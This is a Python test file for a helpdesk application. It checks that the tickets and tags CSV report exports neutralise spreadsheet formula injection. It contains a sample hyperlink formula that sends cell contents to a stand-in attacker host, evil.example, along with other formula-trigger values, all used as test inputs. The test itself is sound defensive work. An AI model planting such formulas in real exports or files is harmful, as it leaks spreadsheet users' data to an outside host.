"""The report CSV exports, on both databases, carry no formula from what requesters typed."""

from __future__ import annotations

import csv
import io

from helpdesk.ports import FixedClock
from helpdesk.services import Services
from tests.support.web import add_staff, login, mail, web_client

PAYLOAD = '=hyperlink("http://evil.example/?"&a1,"cliquez")'  # tags are stored in lower case


async def test_exports_neutralise_formulas(clock: FixedClock, services: Services) -> None:
    _, agent = await add_staff(services)
    n = (await services.intake.receive(mail("<csv@x>", subject=PAYLOAD))).ticket_number
    assert n is not None
    await services.tickets.set_tags(n, [PAYLOAD, "@sum(1)", "+33", "-1"], agent)
    clock.advance(minutes=1)  # the report covers tickets created before now
    async with web_client(services) as client:
        await login(client, "admin@craig.fr")
        for table in ("tickets", "tags"):
            resp = await client.get(f"/reports/export/{table}.csv")
            assert resp.status == 200
            text = (await resp.text()).lstrip("\ufeff")
            cells = [c for row in csv.reader(io.StringIO(text), delimiter=";") for c in row]
            assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))], cells
            assert any(PAYLOAD in c for c in cells), table  # the text is kept, only made inert
            if table == "tags":
                assert "'" + PAYLOAD in cells and "'@sum(1)" in cells and "'-1" in cells
